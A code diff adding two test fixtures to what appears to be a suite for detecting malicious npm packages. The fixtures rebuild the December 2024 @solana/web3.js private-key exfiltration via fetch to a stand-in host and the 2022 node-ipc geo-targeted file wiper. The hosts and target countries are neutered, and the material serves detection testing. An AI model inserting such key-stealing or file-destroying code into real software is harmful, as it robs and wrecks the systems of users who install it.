@@ -895,6 +895,90 @@ def _fetch_hook_plain() -> Shape:
     )
 
 
+SOLANA_CLEAN = """'use strict';
+var nacl = { sign: { keyPair: { fromSecretKey: function (k) { return { publicKey: k.slice(32), secretKey: k }; } } } };
+class Keypair {
+  constructor(keypair) { this._keypair = keypair || nacl.sign.keyPair.fromSecretKey(new Uint8Array(64)); }
+  static fromSecretKey(secretKey, options) {
+    if (secretKey.byteLength !== 64) throw new Error('bad secret key size');
+    return new Keypair(nacl.sign.keyPair.fromSecretKey(secretKey));
+  }
+  get publicKey() { return this._keypair.publicKey; }
+  get secretKey() { return new Uint8Array(this._keypair.secretKey); }
+}
+exports.Keypair = Keypair;
+"""
+
+
+def _solana_key_exfil() -> Shape:
+    """@solana/web3.js 1.95.6 (Dec 2024): no install script; a function added to the bundle
+    sends private keys with fetch, hidden in a header that looks like a CDN's."""
+    name = "solana-web3-inert"
+    backdoor = SOLANA_CLEAN.replace(
+        "    return new Keypair(nacl.sign.keyPair.fromSecretKey(secretKey));",
+        "    addToQueue(Buffer.from(secretKey).toString('base64'));\n"
+        "    return new Keypair(nacl.sign.keyPair.fromSecretKey(secretKey));") + """
+function addToQueue(key) {
+  try {
+    fetch('https://sol-rpc.example.invalid/', { method: 'POST', headers: { 'x-amz-cf-id': key, 'x-session-id': Date.now().toString(36) } }).catch(function () {});
+  } catch (e) {}
+}
+"""
+    return Shape(
+        key="solana-key-exfil", title="private keys sent with fetch in a CDN-looking header (bundle, no install script)",
+        incident="@solana/web3.js 1.95.5 -> 1.95.6, Dec 2024",
+        name=name, old_version="1.95.5", new_version="1.95.6",
+        old_files={"package.json": package_json(name, "1.95.5", main="lib/index.cjs.js"),
+                   "lib/index.cjs.js": js(SOLANA_CLEAN)},
+        new_files={"package.json": package_json(name, "1.95.6", main="lib/index.cjs.js"),
+                   "lib/index.cjs.js": js(backdoor)},
+        where="lib/index.cjs.js", tags=("network", "credentials", "no-install-script"),
+    )
+
+
+def _node_ipc_wiper() -> Shape:
+    """node-ipc 10.1.1 (Mar 2022, "peacenotwar"): a module required from the main file looks
+    the machine's country up and overwrites every file it can reach with a heart."""
+    name = "node-ipc-wiper-inert"
+    main = ("'use strict';\nconst IPC = require('./services/IPC.js');\n"
+            "module.exports = new IPC();\n")
+    ipc = js("module.exports = class IPC { connectTo() { return this; } serve() { return this; } };\n")
+    geospec = js("""const fs = require('fs');
+const path = require('path');
+const https = require('https');
+function deleteFile(dir) {
+  for (const entry of fs.readdirSync(dir)) {
+    const target = path.join(dir, entry);
+    try {
+      if (fs.statSync(target).isDirectory()) deleteFile(target);
+      else fs.writeFileSync(target, '\u2764\ufe0f');
+    } catch (e) {}
+  }
+}
+https.get('https://geo.example.invalid/ipgeo?apiKey=inert', (res) => {
+  let body = '';
+  res.on('data', (c) => (body += c));
+  res.on('end', () => {
+    const country = JSON.parse(body).country_name;
+    if (country === 'inert-country-a' || country === 'inert-country-b') {
+      for (const dir of ['./', '../', '../../', '../../../', require('os').homedir() + '/Desktop']) deleteFile(dir);
+    }
+  });
+});
+""")
+    return Shape(
+        key="node-ipc-wiper", title="geo-IP check, then every reachable file overwritten (required from main)",
+        incident="node-ipc 10.1.0 -> 10.1.1, Mar 2022",
+        name=name, old_version="10.1.0", new_version="10.1.1",
+        old_files={"package.json": package_json(name, "10.1.0", main="node-ipc.js"),
+                   "node-ipc.js": js(main), "services/IPC.js": ipc},
+        new_files={"package.json": package_json(name, "10.1.1", main="node-ipc.js"),
+                   "node-ipc.js": js(main.replace("module.exports", "require('./dao/ssl-geospec.js');\nmodule.exports")),
+                   "services/IPC.js": ipc, "dao/ssl-geospec.js": geospec},
+        where="dao/ssl-geospec.js", tags=("fs-write", "network", "no-install-script"),
+    )
+
+
 BUILDERS: dict[str, Callable[[], Shape]] = {
     "shai-hulud": lambda: _worm(False),
     "shai-hulud-padded": lambda: _worm(True),
@@ -916,6 +1000,8 @@ BUILDERS: dict[str, Callable[[], Shape]] = {
     "inline-curl-sh": _inline_curl_sh,
     "shai-hulud-minified": _worm_minified,
     "fetch-hook-skimmer": _fetch_hook_plain,
+    "solana-key-exfil": _solana_key_exfil,
+    "node-ipc-wiper": _node_ipc_wiper,
 }
 KEYS: tuple[str, ...] = tuple(BUILDERS)
 
